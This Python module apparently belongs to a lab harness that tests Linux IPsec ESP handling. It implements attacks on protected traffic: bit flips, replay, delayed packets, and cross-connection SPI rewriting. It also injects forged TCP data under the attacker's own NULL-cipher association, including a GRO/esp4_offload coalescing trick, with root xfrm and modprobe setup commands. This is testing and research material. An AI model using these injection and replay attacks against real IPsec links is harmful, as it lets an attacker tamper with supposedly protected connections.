# SPDX-License-Identifier: BSD-2-Clause
"""What the attacker does with ESP packets: the victims', or some under an association of his own.

Words of attacks.table.  His own association has a NULL cipher and HMAC-SHA1: host B's administrator
has given it to him for other traffic.
"""
import hashlib
import hmac
import struct
import subprocess
import sys
import time

from attack_frames import ESP, TCP, address, ip_packet
from attack_moves import Attack, Timed, attack, evil
from attacker import other

OWN_ADDRESS, OWN_SPI, OWN_KEY = "10.77.0.66", 0x4242, bytes(range(20))
INTERFACE_NUMBER = 42
ICV_BYTES = 12
NEXT_IPV4 = 4


def own_esp(sequence, inner, next_header):
    """The body of an ESP packet (RFC 4303) under the attacker's own association."""
    padding = -(len(inner) + 2) % 4
    body = struct.pack("!II", OWN_SPI, sequence) + inner + bytes(range(1, padding + 1)) + \
        bytes([padding, next_header])
    return body + hmac.new(OWN_KEY, body, hashlib.sha1).digest()[:ICV_BYTES]


@attack("esp-flip")
class EspFlip(Attack):
    """One bit of a protected packet: byte= of the IP packet, negative from its end."""

    def __init__(self, flow, options):
        super().__init__(flow, options)
        self.is_done = False

    def frame(self, side, frame, name):
        if self.is_done or name != self.options["at"] or frame.protocol != ESP:
            return [frame]
        self.is_done = True
        return [frame.with_bit_flipped(self.number("byte"))]


@attack("esp-replay")
class EspReplay(Attack):
    """Every protected packet twice, and all of them once more at the end of the stream."""

    def __init__(self, flow, options):
        super().__init__(flow, options)
        self.kept = []

    def frame(self, side, frame, name):
        if frame.protocol != ESP:
            return [frame]
        self.kept.append((other(side), frame))
        if len(self.kept) % 8 == 0:
            for to, old in self.kept:
                self.wire.send(to, old)
        return [frame, frame]


@attack("esp-hold")
class EspHold(Attack):
    """Holds one packet of A's data until count= others have passed: far outside the window."""

    def __init__(self, flow, options):
        super().__init__(flow, options)
        self.held, self.passed = None, 0

    def frame(self, side, frame, name):
        if side != "A" or frame.protocol != ESP or "A.complete" not in self.flow.events:
            return [frame]
        if self.held is None:
            if not frame.has_esp_payload:
                return [frame]
            self.held = frame
            return []
        self.passed += 1
        return [frame, self.held] if self.passed == self.number("count") else [frame]


@attack("esp-other")
class EspOther(Timed):
    """Protected packets of an earlier connection, as they were and under this one's SPI."""

    def strike(self):
        source = other(self.to)
        for old in self.flow.past.get("ESP." + source, [])[-8:]:
            self.forge(old)
            if source in self.flow.spis:
                start = old.header_bytes
                packet = old.packet[:start] + struct.pack("!I", self.flow.spis[source]) + \
                    old.packet[start + 4:]
                self.forge(old.with_packet(packet))


@attack("tunnel")
class Tunnel(Timed):
    """Clear TCP out of the attacker's own tunnel, which ends in an xfrm interface of host B."""
    SETUP = {"B": f"""
        ip link add ipsec0 type xfrm dev wire if_id {INTERFACE_NUMBER}
        ip link set ipsec0 up
        sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.ipsec0.rp_filter=0
        ip xfrm state add src {OWN_ADDRESS} dst 10.77.0.2 proto esp spi {OWN_SPI:#x} reqid 42 \
            mode tunnel if_id {INTERFACE_NUMBER} auth-trunc 'hmac(sha1)' 0x{OWN_KEY.hex()} 96 \
            enc cipher_null ''
        ip xfrm policy add src 0.0.0.0/0 dst 0.0.0.0/0 dir in if_id {INTERFACE_NUMBER} \
            tmpl src {OWN_ADDRESS} dst 10.77.0.2 proto esp reqid 42 mode tunnel"""}
    CLEANUP = {"B": f"""
        ip xfrm policy delete src 0.0.0.0/0 dst 0.0.0.0/0 dir in if_id {INTERFACE_NUMBER}
        ip xfrm state delete src {OWN_ADDRESS} dst 10.77.0.2 proto esp spi {OWN_SPI:#x}
        ip link delete ipsec0"""}

    def strike(self):
        self.to = "B"
        inner = self.flow.segment("A", self.number("offset"), evil(self.number("bytes")))
        body = own_esp(self.number("sequence", 1), inner.packet, NEXT_IPV4)
        self.forge(self.flow.raw("A", ip_packet(address(OWN_ADDRESS), inner.target, ESP, body)))


@attack("own-esp")
class OwnEsp(Timed):
    """TCP of the victim's connection in transport mode under the attacker's own association."""
    SETUP = {"B": f"""
        ip xfrm state add src {OWN_ADDRESS} dst 10.77.0.2 proto esp spi {OWN_SPI:#x} reqid 42 \
            mode transport auth-trunc 'hmac(sha1)' 0x{OWN_KEY.hex()} 96 enc cipher_null ''"""}
    CLEANUP = {"B": f"""
        ip xfrm state delete src {OWN_ADDRESS} dst 10.77.0.2 proto esp spi {OWN_SPI:#x}"""}

    def strike(self):
        inner = self.flow.segment("A", self.number("offset"), evil(self.number("bytes")))
        body = own_esp(1, inner.packet[20:], TCP)
        self.forge(self.flow.raw("A", ip_packet(inner.source, inner.target, ESP, body)))


@attack("crossed")
class Crossed(Attack):
    """Behind a full segment of A's stream, in one batch for host B's GRO, a segment under the
    attacker's own association that continues it: with esp4_offload the kernel joins the two, and
    asks the first one's association only.  late=SECONDS: the module is loaded when both are latched,
    and so much later the segments come, those that A repeats among them."""
    LOADS_MODULES = True
    SETUP = {"M": f"""
        modprobe sch_netem
        {sys.path[0]}/attacker.py --offloads-off middleB
        tc qdisc replace dev middleB root netem slot 20ms""",
             "B": f"""{OwnEsp.SETUP["B"]}
        {sys.path[0]}/attacker.py --gro-on wire"""}
    CLEANUP = {"B": f"""{OwnEsp.CLEANUP["B"]}
        {sys.path[0]}/attacker.py --offloads-off wire""",
               "M": """
        tc qdisc delete dev middleB root
        for try in $(seq 100); do modprobe -qr esp4_offload && break; sleep 0.1; done
        [ ! -e /sys/module/esp4_offload ]"""}
    # A full segment's packet and payload.  Only the last segment of what a program sends at once bears
    # PSH, which would end what the kernel joins.
    FULL_PACKET, FULL_PAYLOAD = 1500, 1426
    WINDOW = 501

    def __init__(self, flow, options):
        super().__init__(flow, options)
        self.loaded, self.began = False, None
        self.held = []
        # Where the stream's next segment begins; the first is taken for T5.
        self.place, self.is_done = self.FULL_PAYLOAD, False
        if not self.number("late"):
            self.load()

    def load(self):
        subprocess.run(["modprobe", "esp4_offload"], check=True)
        self.loaded = True

    def frame(self, side, frame, name):
        if name != "data.A" or frame.protocol != ESP:
            return [frame]
        if not self.loaded:
            self.load()
        if self.began is None:
            self.began = time.monotonic()
        self.held.append(frame)
        if time.monotonic() < self.began + self.number("late"):
            return []
        passing, self.held = self.held, []
        return [passed for held in passing for passed in self.with_continuation(held)]

    def with_continuation(self, frame):
        strikes = len(frame.packet) == self.FULL_PACKET and not self.is_done
        self.place += len(frame.packet) - self.FULL_PACKET + self.FULL_PAYLOAD
        self.is_done |= strikes
        return [frame, self.continuation(frame)] if strikes else [frame]

    def continuation(self, frame):
        """What follows the segment in frame, by numbers, under the attacker's own association."""
        inner = self.flow.segment("A", self.place - self.flow.last_write["A"], evil(320),
                                  window=self.WINDOW)
        body = own_esp(1, inner.packet[20:], TCP)
        identification = struct.unpack_from("!H", frame.packet, 4)[0] + 1
        return self.flow.raw("A", ip_packet(frame.source, frame.target, ESP, body,
                                            identification & 0xffff))
